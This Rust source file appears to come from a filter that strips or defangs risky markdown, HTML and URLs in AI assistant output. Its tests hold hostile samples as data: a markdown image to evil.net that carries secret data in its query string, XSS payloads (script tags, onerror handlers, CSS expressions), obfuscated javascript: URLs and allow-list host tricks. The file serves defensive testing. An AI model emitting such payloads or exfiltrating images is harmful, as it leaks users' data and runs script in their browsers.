}

/// Whether the byte at `i` is escaped by an odd run of backslashes.
fn escaped(b: &[u8], i: usize) -> bool {
    let mut n = 0;
    let mut j = i;
    while j > 0 && b.get(j - 1) == Some(&b'\\') {
        n += 1;
        j -= 1;
    }
    n % 2 == 1
}

/// The `[` that opens the link text closed by the `]` at `m` (balanced,
/// within [`MAX_LABEL_BYTES`]).
fn matching_open(b: &[u8], m: usize) -> Option<usize> {
    let lo = m.saturating_sub(MAX_LABEL_BYTES);
    let mut depth = 0usize;
    let mut i = m;
    while i > lo {
        i -= 1;
        match b.get(i) {
            Some(b']') if !escaped(b, i) => depth += 1,
            Some(b'[') if !escaped(b, i) => {
                if depth == 0 {
                    return Some(i);
                }
                depth -= 1;
            }
            _ => {}
        }
    }
    None
}

/// A link destination: its range and the position of the closing `)`.
struct Dest {
    start: usize,
    end: usize,
    close: usize,
}

/// The destination and title after `](` (CommonMark, bounded).
fn parse_dest(b: &[u8], p: usize) -> Option<Dest> {
    let skip_ws = |i: &mut usize| {
        let mut newlines = 0;
        while let Some(c) = b.get(*i) {
            match c {
                b' ' | b'\t' | b'\r' => *i += 1,
                b'\n' if newlines == 0 => {
                    newlines += 1;
                    *i += 1;
                }
                _ => break,
            }
        }
    };
    let mut i = p;
    skip_ws(&mut i);
    let (start, end);
    if b.get(i) == Some(&b'<') {
        start = i + 1;
        let mut j = start;
        loop {
            match b.get(j)? {
                b'>' if !escaped(b, j) => break,
                b'\n' | b'<' => return None,
                _ => j += 1,
            }
            if j - start > MAX_DEST_BYTES {
                return None;
            }
        }
        end = j;
        i = j + 1;
    } else {
        start = i;
        let mut depth = 0usize;
        loop {
            match b.get(i) {
                None => return None,
                Some(c) if c.is_ascii_whitespace() || *c < 0x20 => break,
                Some(b'\\') if b.get(i + 1).is_some_and(u8::is_ascii_punctuation) => i += 1,
                Some(b'(') => depth += 1,
                Some(b')') => {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
                _ => {}
            }
            i += 1;
            if i - start > MAX_DEST_BYTES {
                return None;
            }
        }
        end = i;
    }
    skip_ws(&mut i);
    match b.get(i)? {
        b')' => Some(Dest {
            start,
            end,
            close: i,
        }),
        q @ (b'"' | b'\'' | b'(') if i > end => {
            let closer = if *q == b'(' { b')' } else { *q };
            let mut j = i + 1;
            loop {
                match b.get(j)? {
                    c if *c == closer && !escaped(b, j) => break,
                    _ => j += 1,
                }
                if j - i > MAX_DEST_BYTES {
                    return None;
                }
            }
            let mut k = j + 1;
            skip_ws(&mut k);
            (b.get(k) == Some(&b')')).then_some(Dest {
                start,
                end,
                close: k,
            })
        }
        _ => None,
    }
}

/// A reference label as CommonMark matches it: case-folded, spaces collapsed.
fn label_key(label: &str) -> String {
    label
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

/// A target as a browser reads it: backslash escapes and character
/// references decoded, tabs and line ends dropped, outer spaces and controls trimmed.
fn decode_target(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' => match chars.peek() {
                Some((_, n)) if n.is_ascii_punctuation() => {
                    out.push(*n);
                    chars.next();
                }
                _ => out.push('\\'),
            },
            '&' => match decode_entity(raw.get(i..).unwrap_or_default()) {
                Some((ch, len)) => {
                    out.push(ch);
                    while chars.peek().is_some_and(|(j, _)| *j < i + len) {
                        chars.next();
                    }
                }
                None => out.push('&'),
            },
            _ => out.push(c),
        }
    }
    strip_controls(&out)
}

/// Tabs, line ends and other controls removed; outer spaces trimmed.
fn strip_controls(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_ascii_control() && !matches!(c, '\u{200b}'..='\u{200d}' | '\u{feff}'))
        .collect::<String>()
        .trim_matches(|c: char| c == ' ' || c.is_whitespace())
        .to_string()
}

/// The character reference at the start of `s` (`&#106;`, `&#x6A`, `&colon;`)
/// and its length; the `;` is optional as browsers read it.
fn decode_entity(s: &str) -> Option<(char, usize)> {
    let b = s.as_bytes();
    if b.get(1) == Some(&b'#') {
        let hex = matches!(b.get(2), Some(b'x' | b'X'));
        let ds = if hex { 3 } else { 2 };
        let mut j = ds;
        while b.get(j).is_some_and(|c| {
            if hex {
                c.is_ascii_hexdigit()
            } else {
                c.is_ascii_digit()
            }
        }) && j - ds < 10
        {
            j += 1;
        }
        if j == ds {
            return None;
        }
        let n = u32::from_str_radix(s.get(ds..j)?, if hex { 16 } else { 10 }).ok()?;
        let ch = char::from_u32(n).unwrap_or('\u{fffd}');
        let len = if b.get(j) == Some(&b';') { j + 1 } else { j };
        return Some((ch, len));
    }
    const NAMED: &[(&str, char)] = &[
        ("colon", ':'),
        ("tab", '\t'),
        ("newline", '\n'),
        ("sol", '/'),
        ("bsol", '\\'),
        ("period", '.'),
        ("commat", '@'),
        ("quest", '?'),
        ("num", '#'),
        ("lpar", '('),
        ("rpar", ')'),
        ("amp", '&'),
        ("lt", '<'),
        ("gt", '>'),
        ("quot", '"'),
        ("apos", '\''),
        ("equals", '='),
        ("nbsp", '\u{a0}'),
    ];
    let rest = s.get(1..)?;
    for (name, ch) in NAMED {
        if rest
            .get(..name.len())
            .is_some_and(|p| p.eq_ignore_ascii_case(name))
        {
            let len = 1 + name.len();
            let semi = b.get(len) == Some(&b';');
            return Some((*ch, if semi { len + 1 } else { len }));
        }
    }
    None
}

/// `%XX` decoded (invalid UTF-8 replaced).
fn percent_decode(s: &str) -> String {
    if !s.contains('%') {
        return s.to_string();
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while let Some(c) = b.get(i) {
        let hex = |k: usize| b.get(k).and_then(|c| (*c as char).to_digit(16));
        match (c, hex(i + 1), hex(i + 2)) {
            (b'%', Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                i += 3;
            }
            _ => {
                out.push(*c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The scheme of a (lower-case) URL, without its `:`.
fn scheme(s: &str) -> Option<&str> {
    let colon = s.find(':')?;
    let sch = s.get(..colon)?;
    let mut bytes = sch.bytes();
    let first = bytes.next()?;
    (first.is_ascii_alphabetic()
        && bytes.all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
        && colon <= 32)
        .then_some(sch)
}

/// `data:image/png|jpeg|gif|webp|bmp|avif` (not SVG, which may hold script).
fn raster_data_image(s: &str) -> bool {
    let rest = s.strip_prefix("data:").unwrap_or_default();
    [
        "image/png",
        "image/jpeg",
        "image/jpg",
        "image/gif",
        "image/webp",
        "image/bmp",
        "image/avif",
    ]
    .iter()
    .any(|t| {
        rest.strip_prefix(t)
            .is_some_and(|r| r.starts_with(';') || r.starts_with(','))
    })
}

/// Schemes a browser parses with an authority (and whose slashes it ignores).
const SPECIAL_SCHEMES: &[&str] = &["http", "https", "ftp", "ws", "wss"];

/// The host a browser would contact for `url` (lower case, decoded, no
/// trailing dot); `None` for a relative URL or another scheme.
pub fn url_host(url: &str) -> Option<String> {
    let lower = url.to_ascii_lowercase();
    let rest = match scheme(&lower) {
        Some(s) if SPECIAL_SCHEMES.contains(&s) => lower.get(s.len() + 1..)?,
        Some(_) => return None,
        None => {
            let mut b = lower.bytes();
            let two = matches!(
                (b.next(), b.next()),
                (Some(b'/' | b'\\'), Some(b'/' | b'\\'))
            );
            if !two {
                return None;
            }
            lower.as_str()
        }
    };
    let rest = rest.trim_start_matches(['/', '\\']);
    let auth_end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let auth = rest.get(..auth_end)?;
    let hostport = auth.rsplit('@').next().unwrap_or(auth);
    let host = if hostport.starts_with('[') {
        hostport
            .find(']')
            .and_then(|e| hostport.get(..=e))
            .unwrap_or(hostport)
    } else {
        hostport.split(':').next().unwrap_or(hostport)
    };
    let host: String = percent_decode(host)
        .chars()
        .map(|c| match c {
            '\u{3002}' | '\u{ff0e}' | '\u{ff61}' => '.',
            c => c,
        })
        .collect::<String>()
        .to_lowercase();
    let host = host.trim_end_matches('.').to_string();
    (!host.is_empty()).then_some(host)
}

/// A URL made unclickable but readable: `hxxps://evil[.]net/x`.
fn defang_url(url: &str) -> String {
    let lower = url.to_ascii_lowercase();
    let (scheme_out, rest) = match scheme(&lower) {
        Some(s) => {
            let out = match s {
                "http" => "hxxp",
                "https" => "hxxps",
                "ftp" => "fxp",
                other => other,
            };
            (
                format!("{out}:"),
                url.get(s.len() + 1..).unwrap_or_default(),
            )
        }
        None => (String::new(), url),
    };
    let slashes = rest.len() - rest.trim_start_matches(['/', '\\']).len();
    let after = rest.get(slashes..).unwrap_or_default();
    let auth_end = after.find(['/', '?', '#', '\\']).unwrap_or(after.len());
    format!(
        "{scheme_out}{}{}{}",
        rest.get(..slashes).unwrap_or_default(),
        after
            .get(..auth_end)
            .unwrap_or_default()
            .replace('.', "[.]"),
        after.get(auth_end..).unwrap_or_default()
    )
}

/// `javascript-blocked:` and the rest, with what could end a markdown target escaped.
fn blocked(scheme: &str, rest: &str) -> String {
    let mut out = format!("{scheme}-blocked:");
    for c in rest.chars() {
        match c {
            ' ' | '(' | ')' | '<' | '>' | '"' | '\'' | '[' | ']' => {
                out.push_str(&format!("%{:02X}", c as u32));
            }
            c => out.push(c),
        }
    }
    out
}

/// CSS with comments and escapes removed, white space dropped.
fn normalize_css(css: &str) -> String {
    let css = decode_target(css);
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut prev = ' ';
                for n in chars.by_ref() {
                    if prev == '*' && n == '/' {
                        break;
                    }
                    prev = n;
                }
            }
            '\\' => {
                let mut hex = String::new();
                while hex.len() < 6 && chars.peek().is_some_and(char::is_ascii_hexdigit) {
                    hex.extend(chars.next());
                }
                if hex.is_empty() {
                    out.extend(chars.next());
                } else {
                    if chars.peek().is_some_and(|c| c.is_whitespace()) {
                        chars.next();
                    }
                    let ch = u32::from_str_radix(&hex, 16)
                        .ok()
                        .and_then(char::from_u32)
                        .unwrap_or('\u{fffd}');
                    out.push(ch);
                }
            }
            c if c.is_whitespace() => {}
            c => out.push(c),
        }
    }
    out.to_lowercase()
}

/// A stretch of the current text: `t0..t1` of it is `o0..o1` of the
/// original, replaced by the rewrite of `meta` (or unchanged).
#[derive(Debug, Clone)]
struct Seg {
    t0: usize,
    t1: usize,
    o0: usize,
    o1: usize,
    meta: Option<Hit>,
}

/// The original offset where current offset `p` starts.
fn map_start(segs: &[Seg], p: usize) -> usize {
    for s in segs {
        if s.meta.is_some() && s.t0 <= p && p < s.t1 {
            return s.o0;
        }
        if s.meta.is_none() && s.t0 <= p && p <= s.t1 {
            return s.o0 + (p - s.t0);
        }
    }
    segs.last().map_or(p, |s| s.o1)
}

/// The original offset where current offset `p` ends.
fn map_end(segs: &[Seg], p: usize) -> usize {
    for s in segs {
        if s.meta.is_some() && s.t0 < p && p <= s.t1 {
            return s.o1;
        }
        if s.meta.is_none() && s.t0 <= p && p <= s.t1 {
            return s.o0 + (p - s.t0);
        }
    }
    segs.last().map_or(p, |s| s.o1)
}

/// `cur` with `edits` (sorted, not overlapping) applied, and its segments.
fn apply(cur: &str, segs: &[Seg], edits: &[Hit]) -> (String, Vec<Seg>) {
    let mut out = String::with_capacity(cur.len());
    let mut next: Vec<Seg> = Vec::with_capacity(segs.len() + 2 * edits.len());
    let mut absorbed = vec![false; segs.len()];
    // Copy `a..b` of `cur` with its segments (absorbed ones excluded).
    let copy = |a: usize, b: usize, out: &mut String, next: &mut Vec<Seg>, absorbed: &[bool]| {
        for (k, s) in segs.iter().enumerate() {
            if absorbed.get(k).copied().unwrap_or(true) {
                continue;
            }
            let (lo, hi) = (s.t0.max(a), s.t1.min(b));
            let inside = lo < hi || (s.t0 == s.t1 && a <= s.t0 && s.t0 < b);
            if !inside {
                continue;
            }
            let t0 = out.len();
            out.push_str(cur.get(lo..hi).unwrap_or_default());
            let (o0, o1) = match s.meta {
                Some(_) => (s.o0, s.o1),
                None => (s.o0 + (lo - s.t0), s.o0 + (hi - s.t0)),
            };
            next.push(Seg {
                t0,
                t1: out.len(),
                o0,
                o1,
                meta: s.meta.clone(),
            });
        }
    };
    let mut pos = 0;
    for e in edits {
        let (mut s, mut en) = (e.start, e.end);
        let (mut prefix, mut suffix) = (String::new(), String::new());
        let mut o0 = map_start(segs, s);
        let mut o1 = map_end(segs, en);
        let mut grabs: Vec<usize> = Vec::new();
        for (k, g) in segs.iter().enumerate() {
            if g.meta.is_none() {
                continue;
            }
            let overlaps = g.t0 < en && g.t1 > s;
            let touches = g.t0 == g.t1 && (g.t0 == s || g.t0 == en);
            if overlaps || touches {
                if g.t0 < s {
                    prefix = cur.get(g.t0..s).unwrap_or_default().to_string();
                    s = g.t0;
                }
                if g.t1 > en {
                    suffix = cur.get(en..g.t1).unwrap_or_default().to_string();
                    en = g.t1;
                }
                o0 = o0.min(g.o0);
                o1 = o1.max(g.o1);
                grabs.push(k);
            }
        }
        if s < pos {
            // Overlaps what the previous edit took: found again next round.
            continue;
        }
        copy(pos, s, &mut out, &mut next, &absorbed);
        for k in grabs {
            if let Some(a) = absorbed.get_mut(k) {
                *a = true;
            }
        }
        let t0 = out.len();
        out.push_str(&prefix);
        out.push_str(&e.literal);
        out.push_str(&suffix);
        next.push(Seg {
            t0,
            t1: out.len(),
            o0,
            o1,
            meta: Some(e.clone()),
        });
        pos = en;
    }
    copy(pos, cur.len() + 1, &mut out, &mut next, &absorbed);
    (out, next)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn detector_with(opts: OutputOptions, allow: &[&str]) -> OutputDetector {
        let allow: Vec<String> = allow.iter().map(|s| s.to_string()).collect();
        let allow = HostAllowList::new(&allow).unwrap_or_else(|e| unreachable!("{e:?}"));
        OutputDetector::new("out", allow, opts, vec![]).unwrap_or_else(|e| unreachable!("{e}"))
    }

    fn detector() -> OutputDetector {
        detector_with(OutputOptions::default(), &["allowed.com", "*.cdn.example"])
    }

    fn all(action: OutputAction) -> OutputOptions {
        OutputOptions {
            images: action,
            links: action,
            html: action,
            dangerous_urls: action,
            bare_urls: None,
            allow_data_images: false,
        }
    }

    /// The text as the client gets it.
    fn rewrite(d: &OutputDetector, text: &str) -> String {
        let f = d.findings(text);
        crate::redact::redact(text, &f, &mut crate::redact::Pseudonyms::frozen())
    }

    fn kinds(d: &OutputDetector, text: &str) -> Vec<(&'static str, String)> {
        d.findings(text)
            .into_iter()
            .map(|f| (f.kind, f.rule_id))
            .collect()
    }

    fn strip(text: &str) -> String {
        rewrite(
            &detector_with(all(OutputAction::Strip), &["allowed.com"]),
            text,
        )
    }

    fn defang(text: &str) -> String {
        rewrite(
            &detector_with(all(OutputAction::Defang), &["allowed.com"]),
            text,
        )
    }

    #[test]
    fn exfiltration_image_is_stripped_with_exact_span() {
        let d = detector();
        let t = "Summary done. ![loading](https://evil.net/p.png?q=SECRET%20DATA \"t\") Bye.";
        let f = d.findings(t);
        assert_eq!(f.len(), 1, "{f:?}");
        let f = &f[0];
        assert_eq!(f.kind, KIND_IMAGE);
        assert_eq!(f.rule_id, "out.markdown_image");
        assert_eq!(f.family, Family::Output);
        assert_eq!(f.action, Action::Redact);
        assert_eq!(f.score, 1.0);
        assert_eq!(f.source, "pattern");
        assert_eq!(
            &t[f.start..f.end],
            "![loading](https://evil.net/p.png?q=SECRET%20DATA \"t\")"
        );
        assert_eq!(rewrite(&d, t), "Summary done.  Bye.");
    }

    #[test]
    fn allowed_hosts_pass_unchanged() {
        let d = detector();
        for t in [
            "![logo](https://allowed.com/logo.png)",
            "![logo](https://ALLOWED.com:443/logo.png)",
            "![x](https://img.cdn.example/a.png) and [docs](https://allowed.com/docs)",
            "[relative](/docs/page) ![rel](images/a.png) [anchor](#top) [mail](mailto:a@b.c)",
            "<https://allowed.com/x>",
            "<img src=\"https://allowed.com/a.png\" alt=\"a\">",
            "<b>bold</b> <i>it</i> <br/> <details><summary>s</summary>x</details>",
        ] {
            assert!(d.findings(t).is_empty(), "{t}: {:?}", d.findings(t));
            assert_eq!(rewrite(&d, t), t);
        }
    }

    #[test]
    fn host_tricks_are_not_the_allowed_host() {
        let d = detector();
        for url in [
            "https://allowed.com.evil.net/x",
            "https://evil.net/?x=allowed.com",
            "https://allowed.com@evil.net/",
            "https://allowed.com:pw@evil.net:8080/",
            "https:\\\\evil.net\\x",
            "https:evil.net/x",
            "//evil.net/x",
            "/\\evil.net/x",
            "https://evil%2Enet/x",
            "https://evil\u{3002}net/x",
            "https://evil.net#allowed.com",
            "https://allowed.com%40evil.net/",
            "HTTPS://EVIL.NET/",
            "https://cdn.example/x",
        ] {
            let t = format!("![a]({url})");
            assert_eq!(
                kinds(&d, &t),
                vec![(KIND_IMAGE, "out.markdown_image".to_string())],
                "{url}"
            );
        }
        assert_eq!(
            url_host("https://a.com@b.net:1/x").as_deref(),
            Some("b.net")
        );
        assert_eq!(url_host("https://[::1]:8/").as_deref(), Some("[::1]"));
        assert_eq!(
            url_host("HTTPS://Allowed.COM./").as_deref(),
            Some("allowed.com")
        );
        assert_eq!(url_host("mailto:x@evil.net"), None);
        assert_eq!(url_host("/x"), None);
    }

    #[test]
    fn allow_list_is_validated() {
        let bad = |p: &str| HostAllowList::new(&[p.to_string()]).err().map(|e| e.0);
        assert_eq!(bad(""), Some(0));
        assert_eq!(bad("*"), Some(0));
        assert_eq!(bad("a.*.com"), Some(0));
        assert_eq!(bad("https://a.com"), Some(0));
        assert_eq!(bad("a.com/x"), Some(0));
        assert_eq!(bad("a..com"), Some(0));
        assert_eq!(bad("*.ok.com"), None);
        let l =
            HostAllowList::new(&["*.Ok.com".to_string(), "x.io".to_string()]).unwrap_or_default();
        assert!(l.allows("a.ok.com") && l.allows("b.a.ok.com") && l.allows("x.io"));
        assert!(!l.allows("ok.com") && !l.allows("aok.com") && !l.allows("x.io.evil"));
    }

    #[test]
    fn nested_and_reference_images() {
        let d = detector();
        // Nested brackets in the alt text.
        let t = "![a [b] c](https://evil.net/x)";
        assert_eq!(kinds(&d, t).len(), 1);
        assert_eq!(rewrite(&d, t), "");
        // Reference style: the definition and the image go.
        let t = "See ![chart][c1] here.\n\n[c1]: https://evil.net/i.png?d=SECRET \"t\"\n";
        assert_eq!(rewrite(&d, t), "See  here.\n\n\n");
        let k = kinds(&d, t);
        assert!(k.iter().all(|(k, _)| *k == KIND_IMAGE), "{k:?}");
        // Collapsed and shortcut references, case-insensitive labels.
        let t = "![Chart][] and ![chart]\n[CHART]: https://evil.net/i.png";
        assert_eq!(rewrite(&d, t), " and \n");
        // A definition only used by a link is a link (defanged by default).
        let t = "[x][r]\n[r]: https://evil.net/p";
        assert_eq!(rewrite(&d, t), "[x][r]\n[r] (hxxps://evil[.]net/p)");
        // Allowed definitions stay.
        let t = "![a][r]\n[r]: https://allowed.com/a.png";
        assert_eq!(rewrite(&d, t), t);
        // A link wrapping an image: both go, the image found again after the link is stripped.
        let t = "[![a](https://evil.net/i.png)](https://evil.net/)";
        assert_eq!(strip(t), "");
    }

    #[test]
    fn links_are_defanged_by_default_and_strip_keeps_text() {
        let d = detector();
        let t = "Read [the report](https://evil.net/r?id=1) now.";
        assert_eq!(
            rewrite(&d, t),
            "Read the report (hxxps://evil[.]net/r?id=1) now."
        );
        assert_eq!(
            kinds(&d, t),
            vec![(KIND_LINK, "out.markdown_link".to_string())]
        );
        assert_eq!(strip(t), "Read the report now.");
        assert_eq!(defang("<https://evil.net/a.b>"), "hxxps://evil[.]net/a.b");
        assert_eq!(strip("go <https://evil.net/a> now"), "go  now");
    }

    #[test]
    fn defang_outputs_are_exact() {
        assert_eq!(
            defang("![alt](https://evil.net/x?q=1)"),
            "[image: alt] (hxxps://evil[.]net/x?q=1)"
        );
        assert_eq!(
            defang("![](http://a.evil.net/x)"),
            "[image] (hxxp://a[.]evil[.]net/x)"
        );
        assert_eq!(
            defang("<script>alert(1)</script>"),
            "&lt;script&gt;alert(1)&lt;/script&gt;"
        );
        assert_eq!(
            defang("[x](javascript:alert(1))"),
            "[x](javascript-blocked:alert%281%29)"
        );
        assert_eq!(
            defang("<a href=\"javascript:alert(1)\">x</a>"),
            "<a href=\"javascript-blocked:alert%281%29\">x</a>"
        );
    }

    #[test]
    fn bare_urls_only_when_asked() {
        let d = detector();
        let t = "Visit https://evil.net/x?q=1. Or www.evil.net/y, or https://allowed.com/z";
        assert!(d.findings(t).is_empty());
        let d = detector_with(
            OutputOptions {
                bare_urls: Some(OutputAction::Defang),
                ..OutputOptions::default()
            },
            &["allowed.com"],
        );
        assert_eq!(
            rewrite(&d, t),
            "Visit hxxps://evil[.]net/x?q=1. Or www[.]evil[.]net/y, or https://allowed.com/z"
        );
        // Inside a link it is the link's business, not a bare URL.
        let t = "[https://allowed.com](https://allowed.com)";
        assert!(d.findings(t).is_empty());
    }

    #[test]
    fn html_markup_is_stripped() {
        let d = detector();
        let cases = [
            ("a<script>alert(1)</script>b", "ab", "out.html.script"),
            (
                "a<SCRIPT\n type=\"text/javascript\"\n>x</ScRiPt >b",
                "ab",
                "out.html.script",
            ),
            (
                "a<script src=https://evil.net/x.js>b",
                "ab",
                "out.html.script",
            ),
            (
                "a<iframe src=\"https://allowed.com\"></iframe>b",
                "ab",
                "out.html.iframe",
            ),
            ("a<object data=x></object>b", "ab", "out.html.object"),
            ("a<embed src=x>b", "ab", "out.html.embed"),
            (
                "a<form action=/x><input name=q></form>b",
                "a<input name=q></form>b",
                "out.html.form",
            ),
            (
                "a<meta http-equiv=\"Refresh\" content=\"0;url=https://allowed.com\">b",
                "ab",
                "out.html.meta_refresh",
            ),
            (
                "a<img src=\"https://evil.net/p.png?q=1\">b",
                "ab",
                "out.html.remote_url",
            ),
            (
                "a<img srcset=\"/a.png 1x, https://evil.net/b.png 2x\">b",
                "ab",
                "out.html.remote_url",
            ),
            ("a<svg/onload=alert(1)>b", "ab", "out.html.event_handler"),
            (
                "a<b onmouseover='x()'>hi</b>b",
                "ahi</b>b",
                "out.html.event_handler",
            ),
            (
                "a<img src=x onerror=alert(1)>b",
                "ab",
                "out.html.event_handler",
            ),
            (
                "a<style>body{background:url(javascript:alert(1))}</style>b",
                "ab",
                "out.html.style",
            ),
            (
                "a<style>p{width:expression(alert(1))}</style>b",
                "ab",
                "out.html.style",
            ),
            (
                "a<div style=\"width: ex/**/pression(alert(1))\">b",
                "ab",
                "out.html.style",
            ),
            (
                "a<div style=\"background:url('https://evil.net/?q=1')\">b",
                "ab",
                "out.html.style",
            ),
            ("a<base href=\"https://evil.net/\">b", "ab", "out.html.base"),
        ];
        for (t, want, rule) in cases {
            assert_eq!(rewrite(&d, t), want, "{t}");
            let k = kinds(&d, t);
            assert!(k.iter().any(|(_, r)| r == rule), "{t}: {k:?}");
        }
        // An unclosed script goes to its `>`.
        let f = d.findings("x <script>alert(1)");
        assert_eq!((f[0].start, f[0].end), (2, 10));
    }

    #[test]
    fn prose_and_code_are_not_html() {
        let d = detector();
        for t in [
            "As shown in [1] and [2], a < b and b > c.",
            "Use Vec<String> or HashMap<K, V>; x<y>z holds.",
            "fn f<T: Clone>(x: T) -> Option<T> { None }",
            "if (a<b && c>d) { }",
            "<!-- a comment <script>alert(1)</script> -->",
            "Email <me@example.com> or see <br>.",
            "The javascript: scheme runs code; data: URLs embed data.",
            "A footnote[^1].\n\n[^1]: See the manual.",
            "Math: [a](b) is a link to a relative page.",
            "<style>p { color: red }</style> <div style=\"color: blue\">x</div>",
            "",
        ] {
            assert!(d.findings(t).is_empty(), "{t}: {:?}", d.findings(t));
        }
    }

    #[test]
    fn dangerous_urls_and_obfuscations() {
        let d = detector();
        for t in [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;avascript&colon;alert(1))",
            "[x](%6Aavascript:alert(1))",
            "[x]( javascript:alert(1) )",
            "[x](<javascript:alert(1)>)",
            "[x](javascript\\:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "<javascript:alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "[r]: javascript:alert(1)",
        ] {
            let k = kinds(&d, t);
            assert_eq!(k.first().map(|k| k.0), Some(KIND_URL), "{t}: {k:?}");
            assert!(k.iter().all(|(k, _)| *k == KIND_URL), "{t}: {k:?}");
        }
        assert_eq!(
            kinds(&d, "[x](javascript:1)"),
            vec![(KIND_URL, "out.url.javascript".to_string())]
        );
        assert_eq!(rewrite(&d, "a [x](javascript:alert(1)) b"), "a x b");
        // Data images when allowed (never SVG, and never as a link).
        let d = detector_with(
            OutputOptions {
                allow_data_images: true,
                ..OutputOptions::default()
            },
            &[],
        );
        assert!(d
            .findings("![x](data:image/png;base64,iVBORw0KGgo=)")
            .is_empty());
        assert_eq!(d.findings("![x](data:image/svg+xml,<svg>)").len(), 1);
        assert_eq!(d.findings("[x](data:image/png;base64,iVBO)").len(), 1);
    }

    #[test]
    fn rewrites_that_join_into_markup_are_caught() {
        // Stripping the inner tag would leave `<script>`.
        let t = "<scr<b onclick=x>ipt>alert(1)</script>";
        let out = strip(t);
        assert!(!out.to_ascii_lowercase().contains("<script"), "{out}");
        let t = "[x](java<b onclick=1>script:alert(1))";
        let out = strip(t);
        assert!(!out.contains("javascript:"), "{out}");
        let t = "<img src=x on![](https://evil.net/)error=alert(1)>";
        let out = strip(t);
        assert!(!out.contains("onerror"), "{out}");
        let t = "<<script></script>img src=x onerror=alert(1)>";
        let out = strip(t);
        assert!(!out.contains("onerror"), "{out}");
        // Spans of the final findings index the original text.
        let d = detector_with(all(OutputAction::Strip), &[]);
        for f in d.findings("pre <scr<b onclick=x>ipt>alert(1)</script> post") {
            assert!(f.start < f.end && f.end <= 47);
        }
    }

    #[test]
    fn flag_and_block_actions() {
        let d = detector_with(all(OutputAction::Flag), &[]);
        let t = "![a](https://evil.net/x) <script>x</script>";
        let f = d.findings(t);
        assert_eq!(f.len(), 2);
        assert!(f.iter().all(|f| f.action == Action::Flag));
        assert_eq!(rewrite(&d, t), t);
        let d = detector_with(all(OutputAction::Block), &[]);
        assert!(d.findings(t).iter().all(|f| f.action == Action::Block));
        // Mixed: flagged links, stripped images inside them.
        let d = detector_with(
            OutputOptions {
                links: OutputAction::Flag,
                ..OutputOptions::default()
            },
            &[],
        );
        let t = "[<img src=https://evil.net/x>](https://evil.net/)";
        assert_eq!(rewrite(&d, t), "[](https://evil.net/)");
    }

    #[test]
    fn channels_and_directions() {
        let d = detector();
        assert!(d.applies_to(Channel::Assistant));
        assert!(!d.applies_to(Channel::User) && !d.applies_to(Channel::Tool));
        assert!(d.applies_to_direction(Direction::Response));
        assert!(!d.applies_to_direction(Direction::Request));
        let d = OutputDetector::new(
            "o",
            HostAllowList::default(),
            OutputOptions::default(),
            vec![Channel::Tool],
        )
        .unwrap_or_else(|e| unreachable!("{e}"));
        assert!(d.applies_to(Channel::Tool) && !d.applies_to(Channel::Assistant));
    }

    #[test]
    fn spans_are_on_char_boundaries_and_bounded() {
        let d = detector();
        let t = "é ![ü](https://évil.net/ü) ö <script>ä</script> ñ";
        for f in d.findings(t) {
            assert!(t.is_char_boundary(f.start) && t.is_char_boundary(f.end));
        }
        assert_eq!(rewrite(&d, t), "é  ö  ñ");
        // Long runs without a construct: nothing, fast.
        let long = format!("[{}](https://evil.net/)", "a".repeat(2000));
        assert!(d.findings(&long).is_empty());
        let prose = "word ".repeat(200_000);
        assert!(d.findings(&prose).is_empty());
        let many = "[x] a < b ](".repeat(20_000);
        let _ = d.findings(&many);
    }
}
